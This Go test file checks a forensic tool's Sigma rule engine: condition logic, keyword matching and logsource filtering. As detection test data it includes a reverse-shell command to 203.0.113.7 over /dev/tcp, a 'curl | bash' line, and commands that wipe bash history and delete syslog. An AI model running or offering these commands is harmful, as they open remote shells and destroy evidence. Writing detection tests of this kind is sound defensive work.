package sigma

import (
	"testing"

	"github.com/cordon-forensics/cordon/timeline"
)

// Three searches over one process, named as SigmaHQ names them: sel_img
// and sel_cli hold for the event below, filter_main does not.
const threeSearches = `    sel_img:
        Image|endswith: '/crontab'
    sel_cli:
        CommandLine|contains: ' -l'
    filter_main:
        User: 'backup'
    _private:
        CommandLine|contains: 'never there'
`

func TestConditions(t *testing.T) {
	ev := started("/usr/bin/crontab", "crontab -l")
	cases := []struct {
		condition string
		want      bool
	}{
		{"sel_img", true},
		{"filter_main", false},
		{"sel_img and sel_cli", true},
		{"sel_img and filter_main", false},
		{"sel_img or filter_main", true},
		{"filter_main or _private", false},
		{"not filter_main", true},
		{"not sel_img", false},
		{"sel_img and not filter_main", true},
		{"sel_img and not 1 of filter_*", true},
		{"all of sel_*", true},
		{"all of sel_* and filter_main", false},
		{"1 of sel_*", true},
		{"1 of filter*", false},
		{"1 of them", true},
		{"all of them", false}, // filter_main fails
		{"all of sel* and not 1 of filter*", true},
		{"1 of sel_img", true},                        // "1 of" a single search is that search
		{"sel_img or filter_main and _private", true}, // and binds tighter than or
		{"(filter_main or sel_img) and not sel_cli", false},
		{"not (filter_main or _private)", true},
	}
	for _, c := range cases {
		t.Run(c.condition, func(t *testing.T) {
			set := ruleOf(t, pcSource, threeSearches+"    condition: "+c.condition)
			if got := fires(set, ev); got != c.want {
				t.Errorf("%q: fires = %v, want %v", c.condition, got, c.want)
			}
		})
	}
}

func TestAllOfThemLeavesOutUnderscore(t *testing.T) {
	// "them" is every search but those whose name starts with "_".
	set := ruleOf(t, pcSource, "    sel:\n        Image|endswith: '/crontab'\n    _helper:\n        Image: nothing\n    condition: all of them")
	if !fires(set, started("/usr/bin/crontab", "crontab -l")) {
		t.Error("all of them: _helper must not count")
	}
}

func TestSeveralConditions(t *testing.T) {
	// A list of conditions: any of them.
	set := ruleOf(t, pcSource, threeSearches+"    condition:\n        - filter_main\n        - sel_cli")
	if !fires(set, started("/usr/bin/crontab", "crontab -l")) {
		t.Error("second condition of the list holds: want a match")
	}
}

func TestListOfMaps(t *testing.T) {
	// A search that is a list of field maps holds when one map holds.
	det := "    sel:\n        - Image|endswith: '/wget'\n        - CommandLine|endswith: '| bash'\n    condition: sel"
	set := ruleOf(t, pcSource, det)
	if !fires(set, started("/bin/bash", "bash -c curl x | bash")) || fires(set, started("/bin/bash", "bash -c ls")) {
		t.Error("list of maps: want any map")
	}
}

// line is a syslog line.
func line(prog, msg string) timeline.Event {
	return timeline.Event{Timestamp: t0, Message: prog + ": " + msg,
		Event:   timeline.EventFields{Dataset: "syslog", Action: "log-line", Original: "Nov  2 10:00:00 web01 " + prog + "[77]: " + msg},
		Host:    &timeline.Host{Name: "web01"},
		Process: &timeline.Process{Name: prog, PID: 77},
		Cordon:  timeline.Cordon{Provenance: timeline.Provenance{Bundle: "ev1", Entry: "fs/var/log/syslog", Line: 3}}}
}

func TestKeywords(t *testing.T) {
	cases := []struct {
		name, logsource, detection string
		ev                         timeline.Event
		want                       bool
	}{
		{"literal anywhere", "product: linux", "    keywords:\n        - 'stack smashing detected'\n    condition: keywords",
			line("kernel", "*** stack smashing detected ***: terminated"), true},
		{"case ignored", "product: linux", "    keywords:\n        - 'STACK SMASHING'\n    condition: keywords",
			line("kernel", "stack smashing detected"), true},
		{"missing", "product: linux", "    keywords:\n        - 'entered promiscuous mode'\n    condition: keywords",
			line("kernel", "device eth0 left promiscuous mode"), false},
		{"wildcard", "product: linux", "    keywords:\n        - 'rm *sh_history'\n    condition: keywords",
			line("bash", "rm -f /root/.bash_history"), true},
		{"wildcard order", "product: linux", "    keywords:\n        - 'rm *sh_history'\n    condition: keywords",
			line("bash", "sh_history rm"), false},
		{"in the original only", "product: linux", "    keywords:\n        - 'web01 sshd[77]'\n    condition: keywords",
			line("sshd", "Accepted publickey"), true},
		{"|all", "product: linux", "    keywords:\n        '|all':\n            - 'bash -c /bin/bash'\n            - '&/dev/tcp/'\n    condition: keywords",
			line("java", "exec bash -c /bin/bash -i >&/dev/tcp/203.0.113.7/4444 0>&1"), true},
		{"|all one missing", "product: linux", "    keywords:\n        '|all':\n            - 'bash -c /bin/bash'\n            - '&/dev/tcp/'\n    condition: keywords",
			line("java", "exec bash -c /bin/bash -i"), false},
		{"keyword and not keyword", "product: linux", "    sel:\n        - 'rm /var/log/syslog'\n    fp:\n        - '/syslog.'\n    condition: sel and not fp",
			line("bash", "rm /var/log/syslog.1"), false},
		{"service: sshd reads sshd's lines", "product: linux\n    service: sshd", "    keywords:\n        - 'Corrupted MAC on input'\n    condition: keywords",
			line("sshd", "Corrupted MAC on input."), true},
		{"service: sshd does not read cron's", "product: linux\n    service: sshd", "    keywords:\n        - 'Corrupted MAC on input'\n    condition: keywords",
			line("CRON", "Corrupted MAC on input."), false},
		{"service: cron", "product: linux\n    service: cron", "    keywords:\n        - 'REPLACE'\n    condition: keywords",
			line("CRON", "(root) REPLACE (root)"), true},
		{"a keyword number", "product: linux", "    init:\n        - 'telinit'\n    level:\n        - 6\n    condition: init and level",
			line("bash", "telinit 6"), true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			set := ruleOf(t, c.logsource, c.detection)
			if got := fires(set, c.ev); got != c.want {
				t.Errorf("fires = %v, want %v", got, c.want)
			}
		})
	}
}

func TestFileTimelineIsNoLog(t *testing.T) {
	// Keyword rules read logs; a file's path is judged by file_event rules.
	ev := timeline.Event{Timestamp: t0, Message: "file modified /etc/ld.so.preload",
		Event: timeline.EventFields{Dataset: "filetimeline", Action: "file-mtime"}, File: &timeline.File{Path: "/etc/ld.so.preload"}}
	if fires(ruleOf(t, "product: linux", "    keywords:\n        - '/etc/ld.so.preload'\n    condition: keywords"), ev) {
		t.Error("a keyword rule read the file timeline")
	}
	if !fires(ruleOf(t, "product: linux\n    category: file_event", "    sel:\n        TargetFilename: '/etc/ld.so.preload'\n    condition: sel"), ev) {
		t.Error("a file_event rule missed a modified file")
	}
	ev.Event.Action = "file-atime"
	if fires(ruleOf(t, "product: linux\n    category: file_event", "    sel:\n        TargetFilename: '/etc/ld.so.preload'\n    condition: sel"), ev) {
		t.Error("an access time is no file_event")
	}
}
